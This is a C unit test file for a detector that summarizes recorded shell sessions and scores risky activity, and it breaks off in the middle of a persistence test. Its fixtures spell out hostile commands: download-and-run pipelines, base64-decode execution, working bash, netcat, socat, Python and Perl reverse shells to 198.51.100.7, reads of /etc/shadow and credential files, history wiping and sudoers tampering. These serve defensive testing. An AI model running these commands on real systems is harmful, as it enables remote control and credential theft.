/*
 * The built-in summarizer: one test per detection, built from hand-made
 * events; a plain session stays low; the same events give the same summary.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "transcript.h"

#define T0	  1700000000000000000LL
#define MS	  1000000LL
#define SHELL_PID 100
#define EVS_MAX	  256

/* ------------------------------------------------------------ building sessions */

/* Events and everything they point to, freed together. */
struct evs {
	Sessrec__Event *ev[EVS_MAX];
	const Sessrec__Event *cev[EVS_MAX];
	size_t n;
	int64_t now;
	void *mem[EVS_MAX * 16];
	size_t n_mem;
	struct summary s;
};

static void *evs_keep(struct evs *e, void *p)
{
	assert_non_null(p);
	assert_true(e->n_mem < sizeof(e->mem) / sizeof(e->mem[0]));
	e->mem[e->n_mem++] = p;
	return p;
}

static char *evs_str(struct evs *e, const char *s)
{
	return evs_keep(e, strdup(s));
}

static Sessrec__Event *evs_new(struct evs *e, Sessrec__Event__BodyCase body)
{
	Sessrec__Event *ev = evs_keep(e, calloc(1, sizeof(*ev)));

	assert_true(e->n < EVS_MAX);
	sessrec__event__init(ev);
	ev->ei = e->n;
	ev->time_ns = e->now;
	e->now += MS;
	ev->body_case = body;
	e->ev[e->n] = ev;
	e->cev[e->n] = ev;
	e->n++;
	return ev;
}

static void evs_start(struct evs *e, const char *user)
{
	Sessrec__Event *ev;
	Sessrec__SessionStart *st;

	memset(e, 0, sizeof(*e));
	e->now = T0;
	ev = evs_new(e, SESSREC__EVENT__BODY_START);
	st = evs_keep(e, calloc(1, sizeof(*st)));
	sessrec__session_start__init(st);
	st->sid = "0b7e8a9c-1d2e-4f30-8a4b-5c6d7e8f9a0b";
	st->server_hostname = "node-a";
	st->user = (char *)user;
	st->login = "alice";
	st->kind = "ssh";
	st->cols = 80;
	st->rows = 24;
	ev->start = st;
}

static void evs_end(struct evs *e, int code)
{
	Sessrec__Event *ev = evs_new(e, SESSREC__EVENT__BODY_END);
	Sessrec__SessionEnd *end = evs_keep(e, calloc(1, sizeof(*end)));

	sessrec__session_end__init(end);
	end->session_start_ns = T0;
	end->session_stop_ns = e->now;
	end->exit_code = code;
	end->reason = "exited";
	ev->end = end;
}

/* A command; argv given as one NULL-terminated list. */
static void evs_exec(struct evs *e, uint32_t pid, uint32_t ppid, uint32_t uid, const char *path,
		     int rc, ...)
{
	Sessrec__Event *ev = evs_new(e, SESSREC__EVENT__BODY_COMMAND);
	Sessrec__Command *c = evs_keep(e, calloc(1, sizeof(*c)));
	const char *base = strrchr(path, '/');
	va_list ap;
	char **argv = evs_keep(e, calloc(16, sizeof(char *)));
	size_t n = 0;

	va_start(ap, rc);
	for (const char *a; (a = va_arg(ap, const char *)) && n < 16;)
		argv[n++] = evs_str(e, a);
	va_end(ap);
	sessrec__command__init(c);
	c->pid = pid;
	c->ppid = ppid;
	c->uid = uid;
	c->program = evs_str(e, base ? base + 1 : path);
	c->path = evs_str(e, path);
	c->argv = argv;
	c->n_argv = n;
	c->return_code = rc;
	ev->command = c;
}

static void evs_disk(struct evs *e, uint32_t pid, const char *prog, const char *path, int flags,
		     int rc)
{
	Sessrec__Event *ev = evs_new(e, SESSREC__EVENT__BODY_DISK);
	Sessrec__Disk *d = evs_keep(e, calloc(1, sizeof(*d)));

	sessrec__disk__init(d);
	d->pid = pid;
	d->program = evs_str(e, prog);
	d->path = evs_str(e, path);
	d->flags = flags;
	d->return_code = rc;
	ev->disk = d;
}

static void evs_net(struct evs *e, uint32_t pid, const char *prog, const char *dst, uint32_t port,
		    int rc)
{
	Sessrec__Event *ev = evs_new(e, SESSREC__EVENT__BODY_NETWORK);
	Sessrec__Network *n = evs_keep(e, calloc(1, sizeof(*n)));

	sessrec__network__init(n);
	n->pid = pid;
	n->program = evs_str(e, prog);
	n->src_addr = "10.0.0.2";
	n->dst_addr = evs_str(e, dst);
	n->dst_port = port;
	n->src_port = 40000;
	n->version = strchr(dst, ':') ? 6 : 4;
	n->protocol = "tcp";
	n->return_code = rc;
	ev->network = n;
}

static void evs_print(struct evs *e, const char *text)
{
	Sessrec__Event *ev = evs_new(e, SESSREC__EVENT__BODY_PRINT);
	Sessrec__Print *p = evs_keep(e, calloc(1, sizeof(*p)));

	sessrec__print__init(p);
	p->data.data = (uint8_t *)evs_str(e, text);
	p->data.len = strlen(text);
	p->bytes = (uint32_t)p->data.len;
	ev->print = p;
}

static void evs_wait(struct evs *e, int64_t ms)
{
	e->now += ms * MS;
}

static void dump(const struct summary *s);

/* SUMMARY_DUMP=1 in the environment prints every summary (to read them). */
static struct summary *evs_summarize(struct evs *e)
{
	evs_end(e, 0);
	assert_int_equal(summary_builtin(e->cev, e->n, &e->s), 0);
	if (getenv("SUMMARY_DUMP"))
		dump(&e->s);
	assert_non_null(e->s.title);
	assert_non_null(e->s.short_description);
	assert_non_null(e->s.detailed_description);
	assert_true(e->s.risk_score <= 100);
	/* one line each */
	for (size_t i = 0; i < e->s.n_risk_reasons; i++)
		assert_null(strpbrk(e->s.risk_reasons[i], "\n\r"));
	for (size_t i = 0; i < e->s.n_commands_of_interest; i++)
		assert_null(strpbrk(e->s.commands_of_interest[i], "\n\r"));
	return &e->s;
}

static void evs_free(struct evs *e)
{
	summary_clear(&e->s);
	for (size_t i = 0; i < e->n_mem; i++)
		free(e->mem[i]);
	e->n_mem = 0;
}

/* Some risk reason contains `what`. */
static bool has_reason(const struct summary *s, const char *what)
{
	for (size_t i = 0; i < s->n_risk_reasons; i++)
		if (strstr(s->risk_reasons[i], what))
			return true;
	return false;
}

static bool has_coi(const struct summary *s, const char *what)
{
	for (size_t i = 0; i < s->n_commands_of_interest; i++)
		if (strstr(s->commands_of_interest[i], what))
			return true;
	return false;
}

static void dump(const struct summary *s)
{
	fprintf(stderr, "title: %s\nshort: %s\nlevel %s score %u review %d\n%s", s->title,
		s->short_description, summary_risk_name(s->risk_level), s->risk_score,
		s->needs_review, s->detailed_description);
	for (size_t i = 0; i < s->n_commands_of_interest; i++)
		fprintf(stderr, "coi: %s\n", s->commands_of_interest[i]);
}

#define assert_reason(s, what)                                                                     \
	do {                                                                                       \
		if (!has_reason((s), (what))) {                                                    \
			dump(s);                                                                   \
			fail_msg("no reason with \"%s\"", (what));                                 \
		}                                                                                  \
	} while (0)
#define assert_level(s, lvl)                                                                       \
	do {                                                                                       \
		if ((s)->risk_level != (lvl)) {                                                    \
			dump(s);                                                                   \
			fail_msg("level %s, want %s", summary_risk_name((s)->risk_level),          \
				 summary_risk_name(lvl));                                          \
		}                                                                                  \
	} while (0)

/* ------------------------------------------------------------ tests */

/* ls, cd (a builtin), vim a file, git status: low, described, nothing to review. */
static void test_benign_session(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, SHELL_PID, 1, 1000, "/usr/bin/bash", 0, "-bash", NULL);
	evs_disk(&e, SHELL_PID, "bash", "/home/alice/.bashrc", O_RDONLY, 3);
	evs_print(&e, "alice@node-a:~$ ls\r\n");
	evs_exec(&e, 101, SHELL_PID, 1000, "/usr/bin/ls", 0, "ls", "--color=auto", NULL);
	evs_disk(&e, 101, "ls", "/usr/lib/x86_64-linux-gnu/libc.so.6", O_RDONLY, 3);
	evs_print(&e, "notes.txt  project\r\nalice@node-a:~$ cd project\r\n");
	evs_print(&e, "alice@node-a:~/project$ vim notes.txt\r\n");
	evs_exec(&e, 102, SHELL_PID, 1000, "/usr/bin/vim", 0, "vim", "notes.txt", NULL);
	evs_disk(&e, 102, "vim", "/home/alice/project/notes.txt", O_RDONLY, 3);
	evs_disk(&e, 102, "vim", "/home/alice/project/notes.txt", O_WRONLY | O_CREAT | O_TRUNC, 3);
	evs_print(&e, "\033[?1049h\033[Hsome notes\033[?1049l");
	evs_exec(&e, 103, SHELL_PID, 1000, "/usr/bin/git", 0, "git", "status", NULL);
	evs_disk(&e, 103, "git", "/home/alice/project/.git/HEAD", O_RDONLY, 3);
	evs_print(&e, "On branch main\r\nnothing to commit, working tree clean\r\n");
	evs_disk(&e, SHELL_PID, "bash", "/home/alice/.bash_history", O_WRONLY | O_TRUNC, 3);
	s = evs_summarize(&e);
	if (s->n_risk_reasons)
		dump(s);
	assert_int_equal(s->n_risk_reasons, 0);
	assert_int_equal(s->risk_score, 0);
	assert_level(s, SUMMARY_RISK_LOW);
	assert_false(s->needs_review);
	assert_non_null(strstr(s->title, "alice"));
	assert_non_null(strstr(s->title, "node-a"));
	assert_non_null(strstr(s->short_description, "Nothing risky"));
	assert_non_null(strstr(s->short_description, "vim"));
	assert_non_null(strstr(s->detailed_description, "/home/alice/project/notes.txt"));
	assert_true(has_coi(s, "vim notes.txt"));
	assert_true(has_coi(s, "git status"));
	evs_free(&e);
}

static void test_download_piped_to_shell(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 201, SHELL_PID, 1000, "/usr/bin/curl", 0, "curl", "-fsSL",
		 "https://get.example.com/install.sh", NULL);
	evs_exec(&e, 202, SHELL_PID, 1000, "/usr/bin/sh", 0, "sh", NULL);
	evs_net(&e, 201, "curl", "203.0.113.5", 443, 0);
	s = evs_summarize(&e);
	assert_reason(s, "download piped to a shell: curl -fsSL https://get.example.com/install.sh "
			 "| sh");
	assert_true(has_coi(s, "curl -fsSL https://get.example.com/install.sh | sh"));
	assert_level(s, SUMMARY_RISK_HIGH);
	assert_int_equal(s->risk_score, 50);
	assert_true(s->needs_review);
	assert_non_null(strstr(s->title, "Downloaded code executed"));
	evs_free(&e);
}

/* curl | sudo bash: the shell runs under sudo, a wrapper. */
static void test_download_piped_to_sudo_shell(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 211, SHELL_PID, 1000, "/usr/bin/wget", 0, "wget", "-qO-",
		 "http://203.0.113.9/x", NULL);
	evs_exec(&e, 212, SHELL_PID, 1000, "/usr/bin/sudo", 0, "sudo", "-E", "bash", NULL);
	evs_exec(&e, 213, 212, 0, "/usr/bin/bash", 0, "bash", NULL);
	s = evs_summarize(&e);
	assert_reason(s,
		      "download piped to a shell: wget -qO- http://203.0.113.9/x | sudo -E bash");
	assert_reason(s, "privileged command: sudo -E bash");
	assert_int_equal(s->risk_score, 60);
	evs_free(&e);
}

/* curl ... | tee log | sh: a longer pipeline whose middle passes data on. */
static void test_download_through_tee(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 205, SHELL_PID, 1000, "/usr/bin/curl", 0, "curl", "-s", "http://x.example/i",
		 NULL);
	evs_exec(&e, 206, SHELL_PID, 1000, "/usr/bin/tee", 0, "tee", "install.log", NULL);
	evs_exec(&e, 207, SHELL_PID, 1000, "/usr/bin/bash", 0, "bash", NULL);
	s = evs_summarize(&e);
	assert_reason(s, "download piped to a shell: curl -s http://x.example/i | bash");
	evs_free(&e);
}

/*
 * A script runs statements back to back: "... | sh" then "cat x | head" then
 * "base64 -d > f" are not pipelines into that earlier sh.
 */
static void test_sequential_commands_are_not_pipelines(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 400, SHELL_PID, 1000, "/usr/bin/sh", 0, "sh", NULL);
	evs_exec(&e, 402, SHELL_PID, 1000, "/usr/bin/cat", 0, "cat", "notes", NULL);
	evs_exec(&e, 403, SHELL_PID, 1000, "/usr/bin/head", 0, "head", "-2", NULL);
	evs_exec(&e, 405, SHELL_PID, 1000, "/usr/bin/base64", 0, "base64", "-d", NULL);
	evs_exec(&e, 406, SHELL_PID, 1000, "/usr/bin/bash", 0, "bash", NULL);
	evs_exec(&e, 408, SHELL_PID, 1000, "/usr/bin/base64", 0, "base64", "-d", NULL);
	evs_exec(&e, 409, SHELL_PID, 1000, "/usr/bin/curl", 0, "curl", "-s", "http://x.example/",
		 NULL);
	s = evs_summarize(&e);
	/* only base64 (405) | bash (406) */
	assert_int_equal(s->n_risk_reasons, 1);
	assert_reason(s, "decoded data piped to a shell: base64 -d | bash");
	assert_int_equal(s->risk_score, 50);
	evs_free(&e);
}

/* A plain download to a file followed by an interactive shell is not a pipeline. */
static void test_download_to_file_is_not_piped(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 215, SHELL_PID, 1000, "/usr/bin/curl", 0, "curl", "-fsSLo", "setup.tgz",
		 "https://example.com/setup.tgz", NULL);
	evs_exec(&e, 216, SHELL_PID, 1000, "/usr/bin/bash", 0, "bash", "./build.sh", NULL);
	s = evs_summarize(&e);
	assert_int_equal(s->n_risk_reasons, 0);
	assert_level(s, SUMMARY_RISK_LOW);
	evs_free(&e);
}

/* bash -c "$(curl ...)": the shell is given what curl printed. */
static void test_download_command_substitution(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 221, SHELL_PID, 1000, "/usr/bin/curl", 0, "curl", "-fsSL",
		 "https://raw.example.com/tool/install.sh", NULL);
	evs_wait(&e, 1500);
	evs_exec(&e, 222, SHELL_PID, 1000, "/usr/bin/bash", 0, "bash", "-c",
		 "#!/bin/sh\nset -e\nmkdir -p ~/.tool\necho installing\n", NULL);
	s = evs_summarize(&e);
	assert_reason(s, "downloaded script run with bash -c (after curl -fsSL "
			 "https://raw.example.com/tool/install.sh)");
	assert_level(s, SUMMARY_RISK_HIGH);
	evs_free(&e);
}

/* A script given to sh -c is read line by line; each reason quotes its line. */
static void test_download_in_script(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 225, SHELL_PID, 1000, "/usr/bin/bash", 0, "bash", "-c",
		 "set -e\ncd /tmp\nwget -qO- http://203.0.113.7/x |\tbash\necho done", NULL);
	s = evs_summarize(&e);
	assert_reason(s, "download run by a shell (sh -c): wget -qO- http://203.0.113.7/x | bash");
	assert_true(has_coi(s, "wget -qO- http://203.0.113.7/x | bash"));
	evs_free(&e);
}

/* The same typed at a prompt (the shell's own text, no pipeline events needed). */
static void test_download_typed(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_print(&e, "alice@node-a:~$ bash <(curl -s http://203.0.113.7/i.sh)\r\n");
	evs_print(&e, "alice@node-a:~$ curl -s http://203.0.113.7/x | sudo bash -s -- --yes\r\n");
	s = evs_summarize(&e);
	assert_reason(s, "download run by a shell (typed): alice@node-a:~$ bash <(curl -s "
			 "http://203.0.113.7/i.sh)");
	assert_reason(s, "download run by a shell (typed): alice@node-a:~$ curl -s "
			 "http://203.0.113.7/x | sudo bash");
	assert_int_equal(s->risk_score, 55);
	evs_free(&e);
}

static void test_downloaded_file_executed(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 231, SHELL_PID, 1000, "/usr/bin/wget", 0, "wget", "-q", "-O", "/tmp/x.sh",
		 "http://203.0.113.9/x.sh", NULL);
	evs_disk(&e, 231, "wget", "/tmp/x.sh", O_WRONLY | O_CREAT | O_TRUNC, 3);
	evs_exec(&e, 232, SHELL_PID, 1000, "/usr/bin/chmod", 0, "chmod", "+x", "/tmp/x.sh", NULL);
	evs_exec(&e, 233, SHELL_PID, 1000, "/tmp/x.sh", 0, "/tmp/x.sh", NULL);
	s = evs_summarize(&e);
	assert_reason(s, "a downloaded file was executed (written by curl/wget): /tmp/x.sh");
	assert_reason(s, "a program ran from a temporary directory: /tmp/x.sh");
	assert_int_equal(s->risk_score, 65);
	evs_free(&e);
}

static void test_decode_piped_to_shell(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 241, SHELL_PID, 1000, "/usr/bin/base64", 0, "base64", "-d", NULL);
	evs_exec(&e, 242, SHELL_PID, 1000, "/usr/bin/bash", 0, "bash", NULL);
	s = evs_summarize(&e);
	assert_reason(s, "decoded data piped to a shell: base64 -d | bash");
	assert_level(s, SUMMARY_RISK_HIGH);
	evs_free(&e);
}

static void test_decode_interpreter(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 251, SHELL_PID, 1000, "/usr/bin/python3", 0, "python3", "-c",
		 "import base64;exec(base64.b64decode('cHJpbnQoMSk='))", NULL);
	s = evs_summarize(&e);
	assert_reason(s, "interpreter code that decodes and executes: python3 -c");
	assert_int_equal(s->risk_score, 50);
	evs_free(&e);
}

/* echo ... | base64 -d > f; chmod +x f; ./f */
static void test_decoded_file_executed(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	/* the shell's child opens f for the redirect, then becomes base64 */
	evs_disk(&e, 261, "bash", "/home/alice/f", O_WRONLY | O_CREAT | O_TRUNC, 3);
	evs_exec(&e, 261, SHELL_PID, 1000, "/usr/bin/base64", 0, "base64", "-d", NULL);
	evs_exec(&e, 262, SHELL_PID, 1000, "/usr/bin/chmod", 0, "chmod", "+x", "f", NULL);
	evs_exec(&e, 263, SHELL_PID, 1000, "./f", 0, "./f", NULL);
	s = evs_summarize(&e);
	assert_reason(s, "a decoded file was executed (written by a base64/xxd decoder): ./f");
	assert_level(s, SUMMARY_RISK_HIGH);
	evs_free(&e);
}

static void test_credentials(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	/* their own clients: nothing */
	evs_disk(&e, 271, "ssh", "/home/alice/.ssh/id_ed25519", O_RDONLY, 3);
	evs_disk(&e, 272, "kubectl", "/home/alice/.kube/config", O_RDONLY, 3);
	evs_disk(&e, 273, "git-remote-http", "/home/alice/.git-credentials", O_RDONLY, 3);
	/* anyone else */
	evs_disk(&e, 274, "cat", "/home/alice/.aws/credentials", O_RDONLY, 3);
	evs_disk(&e, 275, "tar", "/home/alice/.ssh/id_rsa", O_RDONLY, 3);
	evs_disk(&e, 276, "python3", "/home/alice/.netrc", O_RDONLY, 3);
	evs_disk(&e, 277, "cat", "/etc/sudoers", O_RDONLY, -EACCES);
	s = evs_summarize(&e);
	assert_reason(s, "credential file /home/alice/.aws/credentials read by cat");
	assert_reason(s, "credential file /home/alice/.ssh/id_rsa read by tar");
	assert_reason(s, "credential file /home/alice/.netrc read by python3");
	assert_reason(s, "sudoers /etc/sudoers read by cat (refused)");
	assert_false(has_reason(s, "id_ed25519"));
	assert_false(has_reason(s, ".kube"));
	assert_false(has_reason(s, ".git-credentials"));
	assert_int_equal(s->risk_score, 50); /* 40 + 5 + 5 (capped) */
	assert_level(s, SUMMARY_RISK_HIGH);
	evs_free(&e);
}

static void test_shadow(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_disk(&e, 281, "sudo", "/etc/shadow", O_RDONLY, 3);
	evs_disk(&e, 282, "unix_chkpwd", "/etc/shadow", O_RDONLY, 3);
	s = evs_summarize(&e);
	assert_int_equal(s->n_risk_reasons, 0);
	evs_free(&e);

	evs_start(&e, "alice");
	evs_exec(&e, 283, SHELL_PID, 0, "/usr/bin/cat", 0, "cat", "/etc/shadow", NULL);
	evs_disk(&e, 283, "cat", "/etc/shadow", O_RDONLY, 3);
	evs_disk(&e, 284, "cp", "/etc/gshadow", O_RDONLY, 3);
	s = evs_summarize(&e);
	assert_reason(s, "password hashes /etc/shadow read by cat");
	assert_reason(s, "password hashes /etc/gshadow read by cp");
	assert_int_equal(s->risk_score, 55);
	assert_level(s, SUMMARY_RISK_HIGH);
	evs_free(&e);
}

static void test_privilege_changes(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	/* sudo alone: noted, low */
	evs_start(&e, "alice");
	evs_exec(&e, 291, SHELL_PID, 1000, "/usr/bin/sudo", 0, "sudo", "apt-get", "update", NULL);
	evs_exec(&e, 292, 291, 0, "/usr/bin/apt-get", 0, "apt-get", "update", NULL);
	s = evs_summarize(&e);
	assert_reason(s, "privileged command: sudo apt-get update");
	assert_int_equal(s->risk_score, 10);
	assert_level(s, SUMMARY_RISK_LOW);
	evs_free(&e);

	evs_start(&e, "alice");
	evs_exec(&e, 293, SHELL_PID, 0, "/usr/bin/chmod", 0, "chmod", "u+s", "/tmp/rootbash", NULL);
	evs_exec(&e, 294, SHELL_PID, 0, "/usr/bin/chmod", 0, "chmod", "4755", "/usr/local/bin/x",
		 NULL);
	evs_exec(&e, 295, SHELL_PID, 0, "/usr/bin/chmod", 0, "chmod", "755", "/usr/local/bin/y",
		 NULL);
	evs_exec(&e, 296, SHELL_PID, 0, "/usr/sbin/usermod", 0, "usermod", "-aG", "sudo", "bob",
		 NULL);
	evs_exec(&e, 297, SHELL_PID, 0, "/usr/bin/tee", 0, "tee", "-a", "/etc/sudoers.d/bob", NULL);
	evs_disk(&e, 297, "tee", "/etc/sudoers.d/bob", O_WRONLY | O_CREAT | O_APPEND, 3);
	evs_disk(&e, 296, "usermod", "/etc/group", O_WRONLY | O_CREAT | O_TRUNC, 3);
	evs_disk(&e, 298, "sed", "/etc/passwd", O_WRONLY | O_CREAT | O_TRUNC, 3);
	s = evs_summarize(&e);
	assert_reason(s, "setuid/setgid bit set: chmod u+s /tmp/rootbash");
	assert_reason(s, "setuid/setgid bit set: chmod 4755 /usr/local/bin/x");
	assert_false(has_reason(s, "chmod 755"));
	assert_reason(s, "user added to an administrators' group: usermod -aG sudo bob");
	assert_reason(s, "sudoers /etc/sudoers.d/bob written by tee");
	assert_reason(s, "account file /etc/passwd written by sed");
	assert_false(has_reason(s, "/etc/group written by usermod"));
	/* setuid 35+5, accounts 35, privileged files 40+5 */
	assert_int_equal(s->risk_score, 100);
	assert_level(s, SUMMARY_RISK_CRITICAL);
	evs_free(&e);
}

static void test_history_clearing(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	/* shell builtins: only the terminal shows them */
	evs_start(&e, "alice");
	evs_print(&e, "alice@node-a:~$ hist");
	evs_print(&e, "ory -c\r\nalice@node-a:~$ unset HISTFILE\r\n");
	s = evs_summarize(&e);
	assert_reason(s, "\"history -c\" (typed)");
	assert_reason(s, "\"unset HISTFILE\" (typed)");
	assert_level(s, SUMMARY_RISK_MEDIUM);
	evs_free(&e);

	evs_start(&e, "alice");
	evs_exec(&e, 301, SHELL_PID, 1000, "/usr/bin/rm", 0, "rm", "-f",
		 "/home/alice/.bash_history", NULL);
	evs_exec(&e, 302, SHELL_PID, 1000, "/usr/bin/ln", 0, "ln", "-sf", "/dev/null",
		 "/home/alice/.zsh_history", NULL);
	evs_exec(&e, 303, SHELL_PID, 1000, "/usr/bin/bash", 0, "bash", "-c",
		 "export HISTSIZE=0; ls", NULL);
	evs_disk(&e, 304, "truncate", "/root/.bash_history", O_WRONLY | O_CREAT, 3);
	s = evs_summarize(&e);
	assert_reason(s, "shell history file removed or emptied: rm -f /home/alice/.bash_history");
	assert_reason(s, "shell history file removed or emptied: ln -sf /dev/null");
	assert_reason(s, "\"HISTSIZE=0\" (sh -c)");
	assert_reason(s, "shell history file /root/.bash_history written by truncate");
	assert_int_equal(s->risk_score, 50);
	evs_free(&e);
}

static void test_reverse_shell_dev_tcp(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 311, SHELL_PID, 1000, "/usr/bin/bash", 0, "bash", "-c",
		 "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", NULL);
	evs_net(&e, 311, "bash", "198.51.100.7", 4444, 0);
	s = evs_summarize(&e);
	assert_reason(s, "reverse shell (sh -c): bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 "
			 "0>&1'");
	assert_reason(s, "a shell (bash) opened a network connection to 198.51.100.7:4444");
	assert_reason(s, "outbound connection on an unusual port: bash → 198.51.100.7:4444 tcp");
	/* reverse 60 + 5, unusual port 15 */
	assert_int_equal(s->risk_score, 80);
	assert_level(s, SUMMARY_RISK_CRITICAL);
	assert_non_null(strstr(s->title, "Reverse shell"));
	evs_free(&e);
}

static void test_reverse_shell_netcat_socat(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 321, SHELL_PID, 1000, "/usr/bin/nc", 0, "nc", "-e", "/bin/sh", "198.51.100.7",
		 "4444", NULL);
	s = evs_summarize(&e);
	assert_reason(s, "reverse shell: nc -e /bin/sh 198.51.100.7 4444");
	assert_level(s, SUMMARY_RISK_HIGH);
	evs_free(&e);

	evs_start(&e, "alice");
	evs_exec(&e, 322, SHELL_PID, 1000, "/usr/bin/socat", 0, "socat",
		 "tcp-connect:198.51.100.7:443", "exec:/bin/bash,pty,stderr,setsid", NULL);
	s = evs_summarize(&e);
	assert_reason(s, "reverse shell: socat tcp-connect:198.51.100.7:443");
	evs_free(&e);

	evs_start(&e, "alice");
	evs_exec(&e, 323, SHELL_PID, 1000, "/usr/bin/ncat", 0, "ncat", "--sh-exec", "/bin/sh",
		 "198.51.100.7", "8443", NULL);
	s = evs_summarize(&e);
	assert_reason(s, "reverse shell: ncat --sh-exec /bin/sh");
	evs_free(&e);
}

static void test_reverse_shell_interpreter(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 331, SHELL_PID, 1000, "/usr/bin/python3", 0, "python3", "-c",
		 "import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));"
		 "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
		 NULL);
	s = evs_summarize(&e);
	assert_reason(s, "interpreter code with a socket and a shell: python3 -c");
	evs_free(&e);

	evs_start(&e, "alice");
	evs_exec(&e, 332, SHELL_PID, 1000, "/usr/bin/perl", 0, "perl", "-e",
		 "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
		 "if(connect(S,sockaddr_in(4444,inet_aton(\"198.51.100.7\")))){open(STDIN,\">&S\");"
		 "exec(\"/bin/sh -i\");};",
		 NULL);
	s = evs_summarize(&e);
	assert_reason(s, "interpreter code with a socket and a shell: perl -e");
	evs_free(&e);
}

/* mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f */
static void test_reverse_shell_fifo(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 341, SHELL_PID, 1000, "/usr/bin/mkfifo", 0, "mkfifo", "/tmp/f", NULL);
	evs_wait(&e, 300);
	evs_exec(&e, 342, SHELL_PID, 1000, "/usr/bin/cat", 0, "cat", "/tmp/f", NULL);
	evs_exec(&e, 343, SHELL_PID, 1000, "/usr/bin/sh", 0, "sh", "-i", NULL);
	evs_exec(&e, 344, SHELL_PID, 1000, "/usr/bin/nc", 0, "nc", "198.51.100.7", "4444", NULL);
	evs_net(&e, 344, "nc", "198.51.100.7", 4444, 0);
	s = evs_summarize(&e);
	assert_reason(s, "reverse shell (a named pipe, then netcat): nc 198.51.100.7 4444");
	assert_reason(s, "network connection piped to a shell: nc 198.51.100.7 4444 | sh -i");
	assert_level(s, SUMMARY_RISK_CRITICAL); /* reverse 60+5, unusual port 15 */
	evs_free(&e);
}

/* A process that connected out and then became a shell (nc -e's exec). */
static void test_reverse_shell_connected_then_shell(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 351, SHELL_PID, 1000, "/tmp/.x/agent", 0, "agent", NULL);
	evs_net(&e, 351, "agent", "198.51.100.7", 443, 0);
	evs_exec(&e, 351, SHELL_PID, 1000, "/bin/sh", 0, "sh", NULL);
	s = evs_summarize(&e);
	assert_reason(s, "a shell was started by a process with a network connection: sh");
	evs_free(&e);
}

static void test_unusual_ports(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_net(&e, 361, "curl", "203.0.113.5", 443, 0);
	evs_net(&e, 361, "ssh", "203.0.113.6", 22, 0);
	evs_net(&e, 361, "psql", "10.0.0.8", 5432, 0);
	evs_net(&e, 361, "python3", "127.0.0.1", 31337, 0);
	evs_net(&e, 361, "resolver", "::1", 53, 0);
	s = evs_summarize(&e);
	assert_int_equal(s->n_risk_reasons, 0);
	evs_free(&e);

	evs_start(&e, "alice");
	evs_net(&e, 362, "curl", "203.0.113.5", 8081, -ECONNREFUSED);
	s = evs_summarize(&e);
	assert_reason(s, "outbound connection on an unusual port: curl → 203.0.113.5:8081 tcp "
			 "(failed)");
	assert_int_equal(s->risk_score, 15);
	assert_level(s, SUMMARY_RISK_LOW);
	evs_free(&e);

	evs_start(&e, "alice");
	evs_net(&e, 363, "python3", "2001:db8::9", 4444, -EINPROGRESS);
	evs_net(&e, 363, "python3", "2001:db8::9", 6667, 0);
	s = evs_summarize(&e);
	assert_reason(s, "python3 → [2001:db8::9]:4444 tcp (connected)");
	assert_int_equal(s->risk_score, 20);
	assert_level(s, SUMMARY_RISK_MEDIUM);
	evs_free(&e);
}

static void test_port_scan(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	for (uint32_t port = 20; port < 50; port++)
		evs_net(&e, 371, "nc", "10.0.0.5", port, port == 22 ? 0 : -ECONNREFUSED);
	s = evs_summarize(&e);
	assert_reason(s, "port scan: 30 ports of 10.0.0.5 (nc)");
	/* scan 30, unusual ports 15 + 15 */
	assert_int_equal(s->risk_score, 60);
	evs_free(&e);
}

static void test_persistence(void **state)
{
	struct evs e;
	struct summary *s;

	(void)state;
	evs_start(&e, "alice");
	evs_disk(&e, 381, "tee", "/home/alice/.ssh/authorized_keys", O_WRONLY | O_APPEND, 3);
